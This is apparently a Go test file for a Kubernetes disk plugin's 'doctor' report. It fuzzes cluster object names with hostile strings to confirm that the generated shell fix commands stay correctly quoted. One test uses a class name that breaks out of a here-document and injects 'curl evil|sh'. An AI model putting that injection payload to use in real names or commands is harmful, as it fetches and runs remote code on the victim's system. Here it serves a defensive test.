// SPDX-License-Identifier: Apache-2.0

package doctor

import (
	"bytes"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/talosdisk/kubectl-talosdisk/internal/shell/shelltest"
	"github.com/talosdisk/kubectl-talosdisk/pkg/snapshot"
)

// named are the names in the fixture that come from outside: of nodes, pods, claims, namespaces, classes, entries, disks and volumes.
var named = []string{
	"w-4", "prov-x", "prov", "prov-config", "provisioner", "local-storage", "nginx-pvc", "nginx-pod", "default", "block", "hdd", "vde", "vdf",
	"vdg",
	"local-pv-b", "local-pv-485eb69c", "10.0.0.14",
}

// renamed is a snapshot with evil in the place of each name, wherever it stands, in paths too.
func renamed(t *testing.T, s *snapshot.Snapshot, evil string) *snapshot.Snapshot {
	t.Helper()
	var file bytes.Buffer
	if err := snapshot.Save(&file, s); err != nil {
		t.Fatal(err)
	}
	content, err := shelltest.Renamed(file.Bytes(), func(name string) string {
		if slices.Contains(named, name) {
			return name + evil
		}
		return name
	})
	if err != nil {
		t.Fatal(err)
	}
	out := new(snapshot.Snapshot)
	// Not by Load, which refuses such names: what is printed has to be safe without that.
	if err := json.Unmarshal(content, out); err != nil {
		t.Fatal(err)
	}
	return out
}

// commands are the words of all commands of a report.
func commands(t *testing.T, s *snapshot.Snapshot) [][]string {
	t.Helper()
	r := Run(s, Options{})
	var all [][]string
	for _, f := range slices.Concat(r.Findings, r.Masked) {
		for _, step := range f.Fix {
			if step.Command == "" {
				continue
			}
			words, err := shelltest.Words(step.Command)
			if err != nil {
				t.Errorf("%s: %v", f.Code, err)
				continue
			}
			for _, w := range words {
				all = append(all, append([]string{string(f.Code)}, w...))
			}
		}
	}
	return all
}

// FuzzNamesToCommands lets a shell's parser read every command of every case in a cluster whose names are hostile: it is the command that
// it is in a cluster of ordinary names, with the names in whole words.
func FuzzNamesToCommands(f *testing.F) {
	for i, evil := range shelltest.Hostile() {
		for at := i % 10; at < len(everyCase()); at += 10 { // Each case has some of the names.
			f.Add(at, evil)
		}
	}
	f.Fuzz(func(t *testing.T, at int, evil string) {
		cases := everyCase()
		tt := cases[uint(at)%uint(len(cases))]
		w := well(t)
		tt.change(w)
		mark, ok := shelltest.Mark(evil)
		if !ok {
			t.Skip()
		}
		// A command that is right as it stands has the same words as without the name's end. Which findings there are may differ: an evil
		// name can be a reason for one.
		usual := commands(t, w.Snapshot)
		for _, words := range commands(t, renamed(t, w.Snapshot, mark)) {
			for i, word := range words {
				words[i] = strings.ReplaceAll(word, mark, "")
				if shelltest.Part(word, mark) {
					t.Errorf("only a part of a name is in %q", word)
				}
			}
			if !slices.ContainsFunc(usual, func(u []string) bool { return slices.Equal(u, words) }) && len(usual) > 0 {
				t.Logf("new: %q", words)
			}
		}
	})
}

// Case 17: a class whose name ends a here-document.
func TestAHereDocumentIsNotEnded(t *testing.T) {
	w := well(t)
	const evil = "z\nEOF\ncurl evil|sh\ncat <<'EOF'"
	w.Install.Classes[0].Name = evil
	found := false
	for _, words := range commands(t, w.Snapshot) {
		if words[1] == "printf" {
			found = true
			if name, err := json.Marshal(evil); err != nil ||
				!slices.Contains(words, "  name: "+strings.NewReplacer(`<`, `\u003c`, `|`, `|`).Replace(string(name))) {
				t.Errorf("%q has no class of that name", words)
			}
		}
	}
	if !found {
		t.Error("no command makes the StorageClass")
	}
}
